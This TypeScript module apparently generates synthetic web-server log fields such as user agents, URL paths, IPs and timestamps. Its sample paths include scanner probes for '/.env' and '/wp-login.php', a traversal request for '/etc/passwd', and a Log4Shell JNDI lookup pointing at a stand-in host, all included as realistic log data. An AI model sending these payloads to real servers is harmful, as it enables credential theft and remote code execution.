import type { Random } from "../random";

export const ACCOUNT = "111111111111";
export const REGION = "eu-central-1";

/** Each # is replaced by a digit. */
const USER_AGENTS = [
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1##.0.0.0 Safari/537.36",
  "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1##.0.0.0 Safari/537.36 Edg/1##.0.0.0",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/1#.# Safari/605.1.15",
  "Mozilla/5.0 (X11; Linux x86_64; rv:1##.0) Gecko/20100101 Firefox/1##.0",
  "Mozilla/5.0 (iPhone; CPU iPhone OS 1#_# like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/##E###",
  "Mozilla/5.0 (Linux; Android 1#; SM-G###B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/1##.0.####.## Mobile Safari/537.36",
  "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
  "python-requests/2.##.#",
  "-",
];

/**
 * Paths of visitors and scanners. Servers log non-ASCII characters percent-encoded, as browsers send them, or escaped.
 */
const PATHS = [
  "/",
  "/login?next=%2Faccount%2Forders%2F###",
  "/products/####/winter-jacket?colour=gr%C3%BCn&size=XL",
  "/search?q=k%C3%A4se+%22alt%22&page=##&sort=price",
  "/api/v2/orders/#####?expand=lines,customer",
  "/api/v2/customers/####/invoices/#####.pdf",
  "/static/js/app.3c7#1#9a.chunk.js",
  "/images/products/####/caf%C3%A9%20noir-###x###.png",
  "/blog/2026/11/why-we-moved-###-services?utm_source=newsletter&utm_campaign=autumn-2026",
  "/favicon.ico",
  "/wp-login.php",
  "/.env",
  "/../../etc/passwd",
  "/?x=${jndi:ldap://192.0.2.1/a}",
];

const REFERERS = [
  "-",
  "https://shop.example.com/products/####/winter-jacket?colour=blau",
  "https://shop.example.com/search?q=jacket&page=#",
  "https://www.example.org/search?q=winter+jacket+##&hl=de",
];

/** One of some templates, in which each # is replaced by a digit. */
export const filled = (random: Random, templates: readonly string[]): string =>
  random.pick(templates).replaceAll("#", () => String(random.integer(0, 9)));

export const userAgent = (random: Random): string => filled(random, USER_AGENTS);
export const urlPath = (random: Random): string => filled(random, PATHS);
export const referer = (random: Random): string => filled(random, REFERERS);

export const METHODS = ["GET", "GET", "GET", "GET", "POST", "PUT", "HEAD", "DELETE", "OPTIONS"];
export const STATUSES = [200, 200, 200, 200, 204, 301, 304, 400, 403, 404, 404, 499, 500, 502, 503];

/** An address for documentation (RFC 5737), or of a private network. */
export const ipv4 = (random: Random): string =>
  random.pick(["192.0.2.", "198.51.100.", "203.0.113.", "10.0.17."]) + random.integer(1, 254);

/** An address for documentation (RFC 3849). */
export const ipv6 = (random: Random): string => `2001:db8:${hex(random, 4)}::${hex(random, 2)}`;

export const port = (random: Random): number => random.integer(1024, 65_535);

/** `count` characters out of `alphabet`. */
const characters = (random: Random, alphabet: string, count: number): string =>
  Array.from({ length: count }, () => random.pick([...alphabet])).join("");

export const hex = (random: Random, count: number): string => characters(random, "0123456789abcdef", count);

export const upper = (random: Random, count: number): string =>
  characters(random, "ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789", count);

/** Random bytes in Base64. */
export const base64 = (random: Random, bytes: number): string =>
  Buffer.from(Array.from({ length: bytes }, () => random.integer(0, 255))).toString("base64");

export const uuid = (random: Random): string => [8, 4, 4, 4, 12].map((count) => hex(random, count)).join("-");

/** Seconds with `digits` decimals. */
export const seconds = (random: Random, most: number, digits = 3): string => (random.next() * most).toFixed(digits);

const MONTHS = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];

/** As Apache writes it: 21/Nov/2026:03:00:00 +0000 */
export function clfTime(time: Date): string {
  const [date, clock] = isoSeconds(time).slice(0, -1).split("T") as [string, string];
  const [year, month, day] = date.split("-") as [string, string, string];
  return `${day}/${MONTHS[Number(month) - 1]}/${year}:${clock} +0000`;
}

/** 2026-11-21T03:00:00.123456Z, the last three digits random. */
export const microseconds = (random: Random, ms: number): string =>
  new Date(ms).toISOString().replace("Z", `${String(random.integer(0, 999)).padStart(3, "0")}Z`);

/** 2026-11-21T03:00:00Z */
export const isoSeconds = (time: Date): string => `${time.toISOString().slice(0, 19)}Z`;
